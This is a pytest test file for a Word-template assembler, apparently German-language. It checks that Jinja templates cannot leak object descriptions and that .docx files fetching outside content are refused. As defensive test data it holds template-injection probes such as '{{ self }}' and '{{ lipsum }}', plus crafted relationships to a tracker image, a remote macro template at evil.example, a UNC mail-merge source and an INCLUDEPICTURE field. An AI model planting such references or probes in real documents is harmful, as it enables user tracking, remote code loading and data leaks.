"""Templates that cannot leak: values only, no object descriptions, nothing fetched from
outside when Word opens the document, and ``template check`` exits 2 for a refused one."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from click.testing import CliRunner
from jinja2.exceptions import SecurityError, UndefinedError

from mepcheck.assemble.archive import (
    ArchiveRefused,
    check_archive,
    external_references,
    refuse_descriptions,
)
from mepcheck.assemble.assembler import assemble_document, bundled_template_path
from mepcheck.assemble.jinja_env import make_environment
from mepcheck.assemble.untrusted import TemplateRefused
from mepcheck.cli import cli
from tests.test_assemble_sandbox import _replace_part, template_with
from tests.test_assemble_support import EXAMPLES, assembled, entries

LEAKS = [
    "{{ lipsum }}",
    "{{ self }}",
    "{{ self|string }}",
    "{{ '%s'|format(charts) }}",
    "{{ charts|pprint }}",
    "{{ doc }}",
    "{{ range }}",
    "{{ self ~ '' }}",
    "{{ '%s' % self }}",
    "{{ '{}'.format(self) }}",
    "{% for s in schools %}{{ loop }}{% endfor %}",
    "{{ [self]|join }}",
    "{{ schools|random }}",
]


@pytest.mark.parametrize("source", LEAKS)
def test_objects_never_render_as_their_description(source: str) -> None:
    env = make_environment()
    context = {"charts": {"budget": {"caption": "x"}}, "doc": {"title": "T"},
               "schools": [{"name": "A"}]}
    with pytest.raises((SecurityError, UndefinedError, Exception)) as info:
        out = env.from_string(source).render(context)
        pytest.fail(f"rendered {out!r}")
    assert not re.search(r"0x[0-9a-f]{6,}", str(info.value))


@pytest.mark.parametrize("source", [
    "{{ doc.title|upper }}", "{{ schools|length }}", "{{ schools|map(attribute='name')|join(', ') }}",
    "{{ 'Seite %s von %s' % (1, 2) }}", "{{ doc.title ~ '!' }}", "{{ doc.items()|list|length }}",
])
def test_values_still_render(source: str) -> None:
    env = make_environment()
    out = env.from_string(source).render({"doc": {"title": "T"}, "schools": [{"name": "A"}]})
    assert out and "object" not in out


@pytest.mark.parametrize("source", ["{{ lipsum }}", "{{ self }}", "{{ '%s'|format(charts) }}",
                                    "{{ charts|pprint }}"])
def test_template_check_exits_2_for_a_leaking_template(tmp_path, source: str) -> None:
    path = tmp_path / "leck.docx"
    path.write_bytes(template_with("{{ chapters.introduction.heading }}", source))
    result = CliRunner().invoke(cli, ["template", "check", str(path)])
    assert result.exit_code == 2, result.output


def test_assemble_refuses_a_leaking_template(tmp_path) -> None:
    _, result, _ = assembled(EXAMPLES[0])
    path = tmp_path / "leck.docx"
    path.write_bytes(template_with("{{ self }}"))
    with pytest.raises(TemplateRefused):
        assemble_document(result, template=path)


def test_an_object_description_in_the_output_is_refused() -> None:
    docx = template_with("Text <jinja2.utils.Cycler object at 0x7f12aa34bc50> Text")
    with pytest.raises(ArchiveRefused, match="Programmobjekt"):
        refuse_descriptions(docx)
    refuse_descriptions(template_with("F&E < 5 % > 3 & mehr"))  # ordinary text passes


# --- external relationships ----------------------------------------------------------------

_REMOTE_IMAGE = (b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
                 b'2006/relationships/image" Target="http://tracker.example/p.png" '
                 b'TargetMode="External"/>')
_ATTACHED = (b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
             b'2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
             b'TargetMode="External"/>')
_DATASOURCE = (b'<Relationship Id="rIdD" Type="http://schemas.openxmlformats.org/officeDocument/'
               b'2006/relationships/mailMergeSource" Target="file:///\\\\host\\share\\db.xlsx" '
               b'TargetMode="External"/>')


def _with_rel(docx: bytes, part: str, rel: bytes) -> bytes:
    parts = entries(docx)
    xml = parts.get(part, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                          b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                          b'relationships"></Relationships>')
    xml = xml.replace(b"</Relationships>", rel + b"</Relationships>")
    if part in parts:
        return _replace_part(docx, part, xml)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        dst.writestr(part, xml)
    return out.getvalue()


@pytest.mark.parametrize(("part", "rel", "words"), [
    ("word/_rels/document.xml.rels", _REMOTE_IMAGE, "Bild aus dem Netz"),
    ("word/_rels/settings.xml.rels", _ATTACHED, "angehängte Vorlage"),
    ("word/_rels/settings.xml.rels", _DATASOURCE, "Seriendruck-Datenquelle"),
])
def test_external_relationships_refuse_the_template(tmp_path, part, rel, words) -> None:
    docx = _with_rel(template_with("{{ chapters.introduction.heading }}"), part, rel)
    found = external_references(check_archive(docx))
    assert found and words in found[0]
    path = tmp_path / "extern.docx"
    path.write_bytes(docx)
    _, result, _ = assembled(EXAMPLES[0])
    with pytest.raises(TemplateRefused, match="außerhalb der Datei"):
        assemble_document(result, template=path)
    check = CliRunner().invoke(cli, ["template", "check", str(path)])
    assert check.exit_code == 2, check.output
    assert "außerhalb der Datei" in check.output


def test_fields_that_fetch_content_refuse_the_template() -> None:
    docx = template_with("x")
    xml = entries(docx)["word/document.xml"].replace(
        b"<w:t>x</w:t>", b'<w:instrText xml:space="preserve"> INCLUDEPICTURE '
                         b'"http://tracker.example/p.png" \\d </w:instrText>')
    found = external_references(check_archive(_replace_part(docx, "word/document.xml", xml)))
    assert found and "INCLUDEPICTURE" in found[0]


def test_no_output_document_carries_an_external_relationship() -> None:
    for example in EXAMPLES:
        _, _, document = assembled(example)
        assert external_references(check_archive(document.docx)) == [], example.stem
    assert external_references(check_archive(bundled_template_path().read_bytes())) == []
